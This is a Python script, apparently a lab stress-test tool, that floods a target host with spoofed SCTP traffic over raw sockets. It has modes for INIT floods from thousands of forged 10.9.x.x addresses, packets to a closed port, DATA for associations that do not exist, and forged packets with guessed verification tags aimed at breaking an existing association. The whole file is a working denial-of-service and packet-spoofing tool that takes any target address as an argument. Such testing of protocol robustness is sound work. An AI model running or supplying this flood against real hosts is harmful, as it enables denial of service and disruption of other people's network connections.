"""Floods a host with SCTP packets, from addresses that it does not have (needs root).

    python flood.py KIND ADDRESS SECONDS [PACKETS_A_SECOND]

KIND is one of these. It prints how many packets it sent.

`inits`: from thousands of addresses of 10.9.0.0/16 to port 5000.
`closed`: the same, to a port that nobody listens at.
`data`: from the same addresses, for associations that do not exist.
`forged`: from 10.1.0.1 and port 7000, for an association whose tag is not known.
"""

import random
import socket
import struct
import sys
import time

from raw_sctp import SCTP, chunk, lying_inits, of_one_pair, packet

PORT, CLOSED_PORT, PEER, PEERS_PORT = 5000, 5999, "10.1.0.1", 7000
DIFFERENT = 4000
"""The number of packets that are made, and sent again and again."""
AT_ONCE = 100
LARGEST = 1400


def from_address(source: str, destination: str, sctp: bytes) -> bytes:
    """An IPv4 packet; the kernel fills in what is 0."""
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(sctp), 0, 0, 64, SCTP, 0)
    return header + socket.inet_aton(source) + socket.inet_aton(destination) + sctp


def from_many(destination: str, kind: str, draw: random.Random) -> list[bytes]:
    """Beginnings of associations that nobody wants, or data for some that do not exist."""
    made = []
    for _ in range(DIFFERENT):
        source = f"10.9.{draw.randrange(256)}.{draw.randrange(1, 255)}"
        tag, number = draw.randrange(1, 2**32), draw.getrandbits(32)
        ports = draw.randrange(1024, 65536), CLOSED_PORT if kind == "closed" else PORT
        if kind == "data":
            sctp = packet(*ports, tag, chunk(0, 3, struct.pack(">IHHI", number, 0, 0, 0) + b"data"))
        else:
            sctp = packet(*ports, 0, chunk(1, 0, struct.pack(">IIHHI", tag, 65536, 10, 10, number)))
        made.append(from_address(source, destination, sctp))
    return made


def forged(destination: str, draw: random.Random) -> list[bytes]:
    """Everything that could disturb an association, with tags that are guessed."""
    made: list[bytes] = []
    while len(made) < DIFFERENT:
        made += of_one_pair(PEERS_PORT, PORT, draw) + lying_inits(PEERS_PORT, PORT, draw)
    return [from_address(PEER, destination, sctp) for sctp in made if len(sctp) < LARGEST]


def main(kind: str, address: str, for_s: float, a_second: float = 1e9) -> None:
    draw = random.Random(9)
    made = forged(address, draw) if kind == "forged" else from_many(address, kind, draw)
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        print("made", flush=True)
        begun_s = time.monotonic()
        while time.monotonic() < begun_s + for_s:
            batch = made[sent % len(made) :][:AT_ONCE]
            for data in batch:
                raw.sendto(data, (address, 0))
            sent += len(batch)
            time.sleep(max(0.0, begun_s + sent / a_second - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], *map(float, sys.argv[3:]))
